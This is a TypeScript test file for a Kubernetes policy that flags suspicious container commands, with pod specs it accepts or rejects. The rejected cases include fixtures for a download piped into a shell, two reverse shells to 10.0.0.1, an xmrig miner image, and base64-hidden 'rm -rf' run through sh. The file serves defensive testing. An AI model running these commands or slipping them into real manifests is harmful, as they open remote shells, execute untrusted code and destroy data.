import { noSuspiciousCommands } from "../../policies/malicious-code-execution/no-suspicious-commands";
import { pod, UNKNOWN } from "../support/builders";
import { testPolicy } from "../support/policy-table";

const running = (...command: string[]) => pod({ "containers[0].command": command });

testPolicy(noSuspiciousCommands, {
  accepts: {
    "the image's own command": pod(),
    "a download to a file that is checked": running(
      "sh",
      "-c",
      "curl -fsSLo /tmp/a https://example.com/a && sha256sum -c a.sum",
    ),
    "a probe that falls back": pod({
      "containers[0].livenessProbe": { exec: { command: ["sh", "-c", "curl -f localhost || exit 1"] } },
    }),
    "an image that waits for a port": pod({
      "containers[0].image": "docker.io/library/ncat:7.95",
      "containers[0].args": ["-z", "database", "5432"],
    }),
    "a port that is waited for": running("sh", "-c", "until nc -z database 5432; do sleep 1; done"),
  },
  rejects: {
    "a download that is piped to a shell": {
      given: running("sh", "-c", "curl -s http://files.example.com/setup.sh | sh"),
      says: 'Pod "web" must not pipe a download into an interpreter (container "web", spec.containers[0].command)',
    },
    "a hook that opens a reverse shell": {
      given: pod({
        "containers[0].lifecycle": {
          postStart: { exec: { command: ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"] } },
        },
      }),
      says: 'Pod "web" must not open a reverse shell (container "web", spec.containers[0].lifecycle.postStart.exec.command)',
    },
    "a reverse shell whose image is the tool": {
      given: pod({
        "containers[0].image": "registry.example.com/tools/ncat:7.95",
        "containers[0].args": ["10.0.0.1", "8989", "-e", "/bin/bash"],
      }),
      says: 'Pod "web" must not open a reverse shell (container "web", spec.containers[0].args)',
    },
    "an image that mines by itself": {
      given: pod({ "containers[0].image": "registry.example.com/tools/xmrig:6.22" }),
      says: 'Pod "web" must not mine coins (container "web", spec.containers[0].image)',
    },
    "a command that is split over command and args": {
      given: pod({
        "containers[0].command": ["sh", "-c"],
        "containers[0].args": ["echo cm0gLXJm | base64 -d | sh"],
      }),
      says: 'Pod "web" must not decode text and run it (container "web", spec.containers[0].command)',
    },
  },
  undecided: {
    "a word from an output": pod({ "containers[0].command": ["sh", "-c", UNKNOWN] }),
    "arguments from an output": pod({ "containers[0].args": UNKNOWN }),
  },
});
